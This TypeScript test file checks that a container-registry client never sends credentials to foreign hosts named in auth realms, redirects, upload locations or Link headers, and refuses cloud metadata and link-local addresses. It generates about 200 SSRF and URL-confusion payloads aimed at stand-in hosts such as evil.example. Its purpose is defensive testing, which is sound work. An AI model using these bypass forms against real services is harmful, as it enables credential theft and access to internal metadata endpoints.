import { readFileSync } from 'node:fs'
import { createServer as createPlain, type IncomingMessage, type Server, type ServerResponse } from 'node:http'
import { createServer as createTls } from 'node:https'
import type { LookupFunction } from 'node:net'
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from '@jest/globals'
import { ensureCertificates } from '#lab/certs.mjs'
import { createHttp } from '../../src/adapters/http.ts'
import { parseHost } from '../../src/domain/reference.ts'
import { ActionError } from '../../src/errors.ts'
import { openRegistries } from '../../src/registry/client.ts'
import { blobOf, repositoryOf, testKeychain, testPorts } from '../registry/parts.ts'
import { found, hatch } from '../support/canary.ts'
import { readParts } from '../support/job.ts'

/** What a registry can name, and a client might follow with a credential in its hand. */
const PLACES = ['realm', 'redirect', 'Location', 'Link'] as const
type Place = (typeof PLACES)[number]

const USER = 'robot'
const canary = hatch('password', USER)
const password = canary.value
const basic = `Basic ${Buffer.from(`${USER}:${password}`).toString('base64')}`

/** Names behind which something else stands than this machine. */
const ADDRESSES: Readonly<Record<string, string>> = {
  'metadata.example': '169.254.169.254',
  'container.example': '169.254.170.2',
  'link.example': '169.254.1.1',
  'six.example': 'fd00:ec2::254',
  'near.example': 'fe80::1',
  'nat.example': '64:ff9b::a9fe:a9fe',
}

/** No name leaves this machine. */
const lookup: LookupFunction = (host, options, callback) => {
  const address = ADDRESSES[host] ?? '127.0.0.1'
  const family = address.includes(':') ? 6 : 4
  if (options.all === true) callback(null, [{ address, family }])
  else callback(null, address, family)
}

const FOREIGN = [
  'evil.example',
  'registry.example.evil.example',
  'xregistry.example',
  'auth.docker.io',
  'localhost',
  '127.0.0.1',
  'registry.example',
]

let ca: string
let registry: Server
let foreign: readonly [plain: Server, tls: Server]
let port: { readonly registry: number; readonly plain: number; readonly tls: number }
/** what the registry names now, and where */
let named: { readonly place: Place; readonly url: string }
let stop: AbortController
let ports: ReturnType<typeof testPorts>
/** whole requests, as they came in elsewhere */
const arrived: string[] = []

beforeAll(async () => {
  const certificates = ensureCertificates(readParts().home)
  ca = readFileSync(certificates.ca, 'utf8')
  const pair = (names: readonly string[]) => {
    const { cert, key } = certificates.certificate(names)
    return { cert: readFileSync(cert), key: readFileSync(key) }
  }
  registry = createTls(pair(['registry.example']), answer)
  foreign = [createPlain(record), createTls(pair(FOREIGN), record)]
  const [first, plain, tls] = await Promise.all([registry, ...foreign].map(listen))
  port = { registry: first ?? 0, plain: plain ?? 0, tls: tls ?? 0 }
})
afterAll(() => {
  for (const server of [registry, ...foreign]) {
    server.close()
    server.closeAllConnections()
  }
})
beforeEach(() => {
  arrived.length = 0
  stop = new AbortController()
  ports = testPorts({ http: createHttp({ env: {}, signal: stop.signal, lookup }) })
})
afterEach(() => {
  stop.abort(new Error('the test has ended'))
})

/** The registry: it asks for Basic, or for tokens of where it was told, and names that place wherever it can. */
function answer(request: IncomingMessage, response: ServerResponse): void {
  const { place, url } = named
  // header fields are bytes (RFC 9110, 5.5)
  const value = Buffer.from(url).toString('latin1')
  request.resume()
  const end = (status: number, headers: Readonly<Record<string, string>> = {}) => response.writeHead(status, headers).end()
  const challenge = place === 'realm' ? `Bearer realm="${value.replaceAll(/["\\]/g, '\\$&')}",service="registry"` : 'Basic realm="registry"'
  if (request.headers.authorization !== basic) return void end(401, { 'www-authenticate': challenge })
  if (place === 'Link') return void end(request.url === '/v2/' ? 200 : 404, { link: `<${value}>; rel="next"` })
  if (request.method === 'POST') return void end(202, { location: place === 'Location' ? value : '/v2/acme/app/blobs/uploads/1' })
  if (request.method === 'HEAD') return void end(404)
  if (place === 'redirect') return void end(307, { location: value })
  return void end(request.url === '/v2/' ? 200 : 404)
}

/** Somebody else: takes everything, and keeps a whole copy of it. */
function record(request: IncomingMessage, response: ServerResponse): void {
  const chunks: Buffer[] = []
  request.on('data', (chunk: Buffer) => chunks.push(chunk))
  request.on('end', () => {
    const head = [`${request.method} ${request.url}`, ...pairs(request.rawHeaders)].join('\n')
    arrived.push(`${head}\n\n${Buffer.concat(chunks).toString('latin1')}`)
    response.writeHead(200, { 'content-type': 'application/json' }).end('{"token":"theirs"}')
  })
}

/** Everything that a run asks of a registry; gives what stopped it. */
async function visit(place: Place, url: string, realms: readonly string[] = []): Promise<readonly string[]> {
  named = { place, url }
  const settings = { plain: false, ca, realms: realms.flatMap((realm) => parseHost(realm) ?? []) }
  const registries = openRegistries(testKeychain({ username: USER, password }, settings), ports)
  const repository = repositoryOf(`registry.example:${port.registry}/acme/app`)
  const client = registries.open(repository)
  const layer = blobOf(new TextEncoder().encode('a layer'))
  const descriptor = {
    mediaType: 'application/vnd.oci.image.layer.v1.tar',
    digest: layer.digest,
    size: layer.size,
    platform: undefined,
    annotations: {},
  }
  const manifest = { bytes: new TextEncoder().encode('{}'), mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: layer.digest }
  const work: readonly (() => Promise<unknown>)[] = [
    () => client.checkAccess('push'),
    () => client.head('latest'),
    () => client.manifest('latest'),
    () => client.readBlob(descriptor, 1024),
    () => client.upload(layer, ['acme/base']),
    () => client.putManifest('latest', manifest),
    () => registries.mayReach(repository.host),
  ]
  const ended: string[] = []
  for (const step of work) {
    const thrown = await step().then(
      () => undefined,
      (error: unknown) => error,
    )
    if (thrown !== undefined) ended.push(thrown instanceof ActionError ? `${thrown.code} ${thrown.message}` : `internal ${String(thrown)}`)
  }
  await registries.close()
  return ended
}

/** 200 ways to write an address that is not the registry's, so that some reader might take it for one. */
function addresses(): readonly string[] {
  const schemes = ['https://', 'http://', '//', 'HTTPS://', 'https:\\\\', 'https:/']
  const users = ['', 'registry.example@', `${USER}:x@`, `registry.example:${port.registry}@`, '%72egistry.example:x@']
  const hosts = [
    ...FOREIGN,
    'EVIL.example',
    'registry.example.',
    'registry.example%2eevil.example',
    'registry。example',
    '[::1]',
    '[::ffff:127.0.0.1]',
    '127.1',
    '2130706433',
    '0x7f000001',
    '0',
    '169.254.169.254',
    '[fe80::1]',
    ...Object.keys(ADDRESSES),
  ]
  const tails = [
    '/token',
    '/token?service=@registry.example',
    '/#@registry.example',
    '\\@registry.example/',
    '/..%2f..//registry.example/',
    '',
  ]
  const count = schemes.length * users.length * hosts.length * tails.length
  // a step that shares no divisor with the count goes through all of them once, and mixes the parts early
  const all = Array.from({ length: count }, (_, index) => (index * 1_237) % count).map((index) => {
    const pick = (list: readonly string[], base: number) => list[Math.floor(index / base) % list.length] ?? ''
    const scheme = pick(schemes, 1)
    const user = pick(users, schemes.length)
    const host = pick(hosts, schemes.length * users.length)
    const tail = pick(tails, schemes.length * users.length * hosts.length)
    return `${scheme}${user}${host}:${scheme.startsWith('http:') ? port.plain : port.tls}${tail}`
  })
  return [...new Set(all)].slice(0, 200)
}

test.each(PLACES)(
  '200 foreign addresses as %s: no byte of a credential gets there',
  async (place) => {
    const urls = addresses()
    expect(urls).toHaveLength(200)
    const internal: string[] = []
    for (const url of urls)
      internal.push(...(await visit(place, url)).filter((line) => line.startsWith('internal')).map((line) => `${url}: ${line}`))
    expect(internal).toStrictEqual([])
    expect(arrived.filter((request) => found([canary], request).length > 0 || /^authorization:/im.test(request))).toStrictEqual([])
    // uploads and downloads do go to storages of others, as they have to; tokens are asked for and pages are turned nowhere else
    expect(arrived.length > 0).toBe(place === 'redirect' || place === 'Location')
  },
  300_000,
)

describe('a name that leads to a link-local or metadata address is refused when the connection is made', () => {
  const names = Object.entries(ADDRESSES)

  test.each(names)('%s (%s), as a token server that the user named', async (name, address) => {
    const ended = await visit('realm', `https://${name}/token`, [name])
    expect(ended[0]).toContain(`${name} is at ${address}, a link-local or metadata address (ERR_ADDRESS_REFUSED)`)
  })

  test.each(names)('%s (%s), as a redirect', async (name, address) => {
    const ended = await visit('redirect', `https://${name}/blob`)
    expect(ended.some((line) => line.includes(`${name} is at ${address}, a link-local or metadata address (ERR_ADDRESS_REFUSED)`))).toBe(
      true,
    )
  })

  test.each(names)('%s (%s), as the place of an upload', async (name, address) => {
    const ended = await visit('Location', `https://${name}/upload`)
    expect(ended.some((line) => line.includes(`${name} is at ${address}, a link-local or metadata address (ERR_ADDRESS_REFUSED)`))).toBe(
      true,
    )
  })
})

describe('the listeners', () => {
  test('are there, and the look finds a credential that is sent to them', async () => {
    for (const url of [`http://evil.example:${port.plain}/a`, `https://registry.example.evil.example:${port.tls}/b`]) {
      const headers = { authorization: basic, 'x-other': encodeURIComponent(password) }
      const body = new TextEncoder().encode(`password=${password}`)
      await ports.http.request({ method: 'POST', url: new URL(url), headers, body, ca, limitBytes: 1024 })
    }
    expect(arrived.map((request) => [request.split('\n')[0], found([canary], request)])).toStrictEqual([
      ['POST /a', ['password']],
      ['POST /b', ['password']],
    ])
  })

  test('the token server that the user named gets the credential, and only that', async () => {
    await visit('realm', `https://evil.example:${port.tls}/token`, [`evil.example:${port.tls}`])
    expect(arrived.length).toBeGreaterThan(0)
    expect(arrived.filter((request) => !/^GET \/token\?service=registry/.test(request))).toStrictEqual([])
  })
})

function listen(server: Server): Promise<number> {
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () => {
      const address = server.address()
      resolve(address === null || typeof address === 'string' ? 0 : address.port)
    }),
  )
}

/** `name: value` for each pair of raw headers. */
function pairs(raw: readonly string[]): readonly string[] {
  return raw.flatMap((name, index) => (index % 2 === 0 ? [`${name}: ${raw[index + 1]}`] : []))
}
